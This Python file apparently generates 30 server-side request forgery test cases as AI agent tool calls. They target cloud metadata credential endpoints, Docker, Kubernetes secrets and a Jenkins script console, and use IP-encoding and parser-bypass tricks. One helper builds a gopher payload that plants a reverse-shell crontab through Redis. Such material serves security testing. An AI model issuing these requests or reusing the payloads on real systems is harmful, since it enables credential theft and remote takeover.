"""ssrf: 30 attack cases (cloud metadata, internal services, scheme and parser tricks)."""
from common import Collector, Stream, jdump, pct, pct_all

FAMILY = "ssrf"

P = "PayloadsAllTheThings Server Side Request Forgery"
PC = "PayloadsAllTheThings SSRF - Cloud Instances"
HT = "HackTricks SSRF"
OW = "OWASP SSRF Prevention Cheat Sheet"


def _resp(*args):
    out = "*%d\r\n" % len(args)
    for a in args:
        out += "$%d\r\n%s\r\n" % (len(a.encode("utf-8")), a)
    return out


def _gopher_redis():
    cron = "\n\n*/1 * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.61/4444 0>&1'\n\n"
    cmds = (_resp("CONFIG", "SET", "dir", "/var/spool/cron/crontabs")
            + _resp("CONFIG", "SET", "dbfilename", "root")
            + _resp("SET", "x", cron)
            + _resp("SAVE"))
    return "gopher://127.0.0.1:6379/_" + pct(cmds)


def cases():
    s = Stream(FAMILY)
    c = Collector()

    c.add("AWS IMDSv1 IAM role credentials listing", PC, "http.fetch",
          {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "timeout_s": 10})

    c.add("AWS IMDSv2 session-token PUT", PC, "http.request",
          {"method": "PUT", "url": "http://169.254.169.254/latest/api/token",
           "headers": {"X-aws-ec2-metadata-token-ttl-seconds": "21600"}})

    c.add("GCP metadata service-account token with Metadata-Flavor header", PC, "web.get",
          {"url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
           "headers": {"Metadata-Flavor": "Google"}})

    c.add("Azure IMDS managed-identity OAuth token", PC, "api.call",
          {"method": "GET",
           "url": "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource="
                  "https://management.azure.com/",
           "headers": {"Metadata": "true"}})

    c.add("AWS IMDS over its IPv6 address fd00:ec2::254", PC, "url.preview",
          {"url": "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/", "render": False})

    c.add("metadata IP written as a single decimal integer", P, "image.fetch_remote",
          {"src": "http://2852039166/latest/user-data", "max_bytes": 1048576})

    c.add("metadata IP written in dotted octal", P, "webhook.test",
          {"target_url": "http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/", "event": "ping"})

    c.add("metadata IP written as one hex integer", P, "feeds.subscribe",
          {"feed_url": "http://0xa9fea9fe/latest/meta-data/hostname", "refresh_min": 15})

    c.add("loopback as decimal integer to the Consul agent API", P, "http.fetch",
          {"url": "http://2130706433:8500/v1/agent/self", "timeout_s": 5})

    c.add("IPv4-mapped IPv6 loopback to the Docker Engine API", HT, "link.unfurl",
          {"url": "http://[::ffff:7f00:1]:2375/containers/json?all=1", "channel": "C04KJ2M9"})

    c.add("0.0.0.0 to a Spring Boot actuator env endpoint", HT, "site.monitor",
          {"url": "http://0.0.0.0:8080/actuator/env", "expect_status": 200})

    c.add("DNS-rebinding style name resolving to loopback (nip.io)", HT, "browser.open",
          {"url": "http://127.0.0.1.nip.io:8080/admin/users", "wait_for": "networkidle"})

    c.add("gopher:// to Redis writing a root crontab", "PayloadsAllTheThings SSRF - Gopherus / Redis",
          "http.fetch", {"url": _gopher_redis(), "follow_redirects": False})

    c.add("dict:// probe of memcached stats", P, "url.fetch", {"url": "dict://127.0.0.1:11211/stats"})

    c.add("file:// read of /proc/self/environ through a URL-to-PDF tool", P, "pdf.from_url",
          {"url": "file:///proc/self/environ", "page_size": "A4"})

    c.add("userinfo @ trick: trusted-looking name before the metadata host", OW, "scraper.fetch",
          {"url": "https://docs.acme-corp.com@169.254.169.254/latest/meta-data/iam/security-credentials/",
           "user_agent": "Mozilla/5.0"})

    c.add("backslash parser confusion between allow-list and fetcher",
          "Orange Tsai, A New Era of SSRF (Black Hat 2017)", "http.get",
          {"url": "http://allowed.partner-cdn.com\\@169.254.169.254/latest/meta-data/", "allow_hosts":
              ["allowed.partner-cdn.com"]})

    c.add("in-cluster Kubernetes API listing kube-system secrets", "HackTricks Kubernetes SSRF", "http.request",
          {"method": "GET",
           "url": "https://kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets",
           "verify_tls": False})

    c.add(".internal admin host exporting all users via link preview", OW, "link_preview.generate",
          {"url": "http://admin.corp.internal/users/export?format=csv&all=true", "include_body": True})

    c.add(".local Jenkins script console POST running Groovy", HT, "http.post",
          {"url": "http://jenkins.local:8080/scriptText",
           "content_type": "application/x-www-form-urlencoded",
           "body": "script=" + pct("println 'cat /var/jenkins_home/secrets/master.key'.execute().text")})

    c.add("Alibaba Cloud metadata RAM role credentials", PC, "import.from_url",
          {"source_url": "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "format": "json"})

    c.add("open redirect bouncing to the metadata service", P, "oembed.fetch",
          {"url": "https://redirect.attacker-link.net/r?u=" + pct("http://169.254.169.254/latest/user-data"),
           "maxwidth": 600})

    c.add("percent-encoded digits in the host part", P, "url.preview",
          {"url": "http://" + ".".join(pct_all(o) for o in ("169", "254", "169", "254"))
                  + "/latest/meta-data/iam/security-credentials/"})

    c.add("two-part IPv4 shorthand 169.254.43518", P, "avatar.import",
          {"image_url": "http://169.254.43518/latest/meta-data/public-keys/0/openssh-key", "user_id": 8812})

    c.add("enclosed alphanumerics spelling the metadata IP", "PayloadsAllTheThings SSRF - Bypass using Unicode",
          "http.fetch", {"url": "http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463"
                                "/latest/meta-data/", "timeout_s": 8})

    guid = s.uuid4()
    c.add("ECS task-role credentials endpoint set as a webhook", PC, "webhooks.create",
          {"name": "deploy-notify", "url": "http://169.254.170.2/v2/credentials/" + guid,
           "events": ["deployment.succeeded"]})

    c.add("HTML-to-PDF iframe pointing at metadata", "HackTricks SSRF in PDF renderers", "pdf.render_html",
          {"html": "<h1>Invoice</h1><iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\""
                   " width=\"800\" height=\"600\"></iframe>",
           "filename": "invoice.pdf"})

    c.add("GCP project ssh-keys attribute via callback in a JSON-encoded config", PC, "integrations.configure",
          {"integration": "status-callback",
           "config": jdump({"callback_url": "http://metadata.google.internal/computeMetadata/v1/project/attributes/"
                                            "ssh-keys?alt=json",
                            "headers": {"Metadata-Flavor": "Google"}, "method": "GET"})})

    c.add("kubectl proxy on localhost listing default-namespace secrets", "HackTricks Kubernetes SSRF",
          "http.fetch", {"url": "http://localhost:8001/api/v1/namespaces/default/secrets"})

    c.add("wildcard-DNS name resolving to the metadata IP", HT, "crawler.add_seed",
          {"url": "http://169.254.169.254.nip.io/latest/meta-data/iam/security-credentials/", "depth": 1})

    return c.items
